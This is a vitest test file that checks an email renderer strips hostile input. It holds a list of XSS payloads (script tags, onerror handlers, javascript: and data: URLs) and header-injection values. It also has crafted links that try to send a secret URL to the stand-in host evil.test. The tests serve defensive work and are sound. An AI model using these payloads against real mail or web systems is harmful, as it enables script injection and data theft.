import fc from 'fast-check'
import { JSDOM } from 'jsdom'
import { expect, test } from 'vitest'
import type { Fields } from '../fields/index.ts'
import { cleanRichText } from '../rich-text/clean-rich-text.ts'
import { block, tree, type UnplacedBlock } from '../tree/index.ts'
import {
  emailBlocks,
  fillPlaceholders,
  hasPlaceholder,
  PLACEHOLDERS,
  type PlaceholderValues,
  renderEmail,
} from './index.ts'

const facts = {
  siteUrl: 'https://maple.test',
  colours: { primary: '#b3261e', dark: 'red;}</style><script>alert(1)</script>' },
  cleanText: (html: string) => cleanRichText(html),
  subject: '</title><script>alert(1)</script>',
  preheader: '<img src=x onerror=alert(1)>',
  companyName: 'Maple & <b>Sons</b>',
  postalAddress: '1 Main St"\n<i>Ottawa</i>',
}

const hostile = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p><a href="javascript:alert(1)">y</a><a href="{{ customer.firstname }}">z</a>',
  '<p style="background:url(//evil.test/x)">x</p><iframe src="//evil.test"></iframe><style>*{}</style>',
  'javascript:alert(1)',
  'java\nscript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '{{ customer.firstname }}',
  '{{ customer.lastname | "javascript:alert(1)" }}',
  'https://maple.test/?name={{ customer.firstname }}',
  'red;background:url(//evil.test/x)',
  '</td></tr></table><form action="//evil.test">',
  '<!--[if mso]><img src=//evil.test><![endif]-->',
  "'};alert(1);//",
]

const anyValue = fc.oneof(fc.constantFrom<unknown>(...hostile), fc.anything(), fc.string(), fc.double())

const anyProps = (fields: Fields) =>
  fc.record(Object.fromEntries(Object.keys(fields).map((key) => [key, anyValue])), { requiredKeys: [] })

const anyBlock: fc.Arbitrary<UnplacedBlock> = fc.letrec<{ block: UnplacedBlock }>((tie) => ({
  block: fc.oneof(
    { maxDepth: 3 },
    ...emailBlocks
      .filter(({ accepts }) => !accepts)
      .map(({ name, fields }) => anyProps(fields).map((props) => block(name, props))),
    ...emailBlocks
      .filter(({ accepts }) => accepts)
      .map(({ name, fields }) =>
        fc
          .tuple(anyProps(fields), fc.array(tie('block'), { maxLength: 3 }))
          .map(([props, children]) => block(name, props, ...children)),
      ),
  ),
})).block

const valuesOf = (value: string) =>
  Object.fromEntries(
    PLACEHOLDERS.map((name) => [name, name.endsWith('_url') ? 'https://maple.test/u?a=1&b=2' : value]),
  ) as PlaceholderValues

const ADDRESS = /^(?:https?:\/\/|mailto:|tel:|sms:)/
const ELEMENTS = new Set(
  'html head meta title style body div table tbody tr td a img p h1 h2 h3 h4 h5 h6 ul ol li blockquote br strong b em i u s del code span'.split(
    ' ',
  ),
)

function faultsOf(html: string): string[] {
  const elements = [...new JSDOM(html).window.document.querySelectorAll('*')]
  return elements.flatMap((element) => {
    const name = element.localName
    const attributes = [...element.attributes].flatMap(({ name: attribute, value }) => {
      if (attribute.startsWith('on')) return [`${name} ${attribute}`]
      if (['href', 'src', 'action', 'background'].includes(attribute) && !ADDRESS.test(value))
        return [`${name} ${attribute}=${value}`]
      if (attribute === 'style' && /url\(|expression|@import|javascript/i.test(value)) return [`${name} style=${value}`]
      return []
    })
    return ELEMENTS.has(name) ? attributes : [name, ...attributes]
  })
}

test('whatever is stored, a mail has only elements, addresses and styles of emails', () => {
  fc.assert(
    fc.property(anyProps(emailBlocks[0]?.fields ?? {}), fc.array(anyBlock, { maxLength: 4 }), (props, blocks) => {
      const { html } = renderEmail(tree(block('EmailWrapper', props, ...blocks)), facts)
      for (const value of ['Ann', 'javascript:alert(1)', '"><script>alert(1)</script>'])
        expect(faultsOf(fillPlaceholders(html, valuesOf(value), 'html'))).toEqual([])
    }),
    { numRuns: 150 },
  )
})

test('values of a person change no element of a mail', () => {
  const content = tree(
    block(
      'EmailWrapper',
      { preheader: '{{ customer.firstname }}' },
      block('EmailTextBox', { text: '<p>{{ customer.firstname }} <a href="/x?n={{ customer.lastname }}">go</a></p>' }),
      block('EmailImage', { src: '/media/{{ customer.email }}.png', alt: '{{ customer.firstname }}' }),
      block('EmailButton', { text: '{{ customer.firstname | "<b>" }}', href: '/a/{{ customer.email }}' }),
    ),
  )
  const { html } = renderEmail(content, facts)
  const shape = (value: string) =>
    [...new JSDOM(fillPlaceholders(html, valuesOf(value), 'html')).window.document.querySelectorAll('*')].map(
      ({ localName, attributes }) => `${localName} ${[...attributes].map(({ name }) => name).join(' ')}`,
    )
  for (const value of ['', '" onload="x', "' style='x", '<td></table>', '--><script>', '\r\nBcc: x@evil.test'])
    expect(shape(value)).toEqual(shape('Ann'))
})

test.each([
  ['{{ customer.firstname }}', null],
  ['{{ customer.firstname | "javascript:alert(1)" }}', null],
  ['{{ unsubscribe_url }}', '{{ unsubscribe_url }}'],
  ['mailto:ann@maple.test', 'mailto:ann@maple.test'],
  ['ftp://maple.test', null],
  ['/store', 'https://maple.test/store'],
  ['//cdn.test/a', 'https://cdn.test/a'],
  ['{{ order.url }}', '{{ order.url }}'],
  ['https://evil.test/?link={{ order.url }}', null],
  ['https://evil.test/?text={{ form.fields | "x" }}', null],
  ['https://maple.test/?mail={{ customer.email }}', 'https://maple.test/?mail={{ customer.email }}'],
])('the link %s becomes %s in texts and buttons', (href, expected) => {
  const blocks = [
    block('EmailButton', { href }),
    block('EmailTextBox', { text: `<p><a href="${href.replaceAll('"', '&quot;')}">x</a></p>` }),
  ]
  const { html } = renderEmail(tree(block('EmailWrapper', {}, ...blocks)), facts)
  const links = [...new JSDOM(html).window.document.querySelectorAll('.body a')]
  expect(links.map((link) => link.getAttribute('href'))).toEqual([expected, expected])
})

const SECRET = 'https://maple.test/document/SECRET'
/** What addresses of the filled mail contain the secret, and what its text says. */
function leaksOf(...blocks: readonly UnplacedBlock[]) {
  const { html, text } = renderEmail(tree(block('EmailWrapper', {}, ...blocks)), facts)
  const values = { ...valuesOf('Ann'), 'document.url': SECRET }
  const elements = [...new JSDOM(fillPlaceholders(html, values, 'html')).window.document.querySelectorAll('*')]
  const attributes = elements.flatMap((element) => [...element.attributes].map(({ value }) => value))
  return {
    leaks: attributes.filter((value) => value.includes('SECRET')),
    isNamed: attributes.some((value) => value.includes('evil.test')),
    text: fillPlaceholders(text, values, 'text'),
  }
}

const HALF = 'https://evil.test/?u={{ document.url |'

test('an image or link whose address has half a placeholder is left out of the mail', () => {
  const cases = [
    block('EmailImage', { src: HALF, alt: '}}' }),
    block('EmailImage', { src: '/x.png', href: HALF, alt: '}}' }),
    block('EmailButton', { href: HALF, text: '}}' }),
    block('EmailButton', { href: 'https://evil.test/}}', text: '{{ document.url |' }),
    block('EmailTextBox', { text: `<p><a href="${HALF}">}}</a></p>` }),
    block('EmailTextBox', { text: `<p><a href="https://evil.test/?u={{ document.url |">a</a><a href="/}}">b</a></p>` }),
  ]
  for (const one of cases) {
    const { leaks, isNamed, text } = leaksOf(one)
    expect({ leaks, isNamed }).toEqual({ leaks: [], isNamed: false })
    expect(text).not.toContain('evil.test')
    expect(text).not.toContain('SECRET')
  }
  const whole = leaksOf(block('EmailButton', { href: '{{ document.url }}', text: 'Open' }))
  expect(whole).toMatchObject({ leaks: [SECRET], text: expect.stringContaining(`Open: ${SECRET}`) })
})

test('a placeholder across tags or quotes is not filled, and does not count as one', () => {
  for (const html of [
    '<img src="https://evil.test/?u={{ document.url |" alt="}}">',
    '<a href="https://evil.test/?u={{ document.url |">}}</a>',
    '<a title="a > b" href="https://evil.test/?u={{ document.url | "}}">x</a>',
    '<p>{{ document.url | <b>x</b> }}</p>',
  ]) {
    expect(fillPlaceholders(html, { 'document.url': SECRET }, 'html')).toBe(html)
    expect(hasPlaceholder(html, 'document.url')).toBe(false)
  }
  const fine = '<p title="a > &quot;b&quot;">{{ document.url | "here" }}</p><a href="{{ document.url }}">x</a>'
  expect(fillPlaceholders(fine, { 'document.url': '' }, 'html')).toContain('>here</p><a href="">')
})
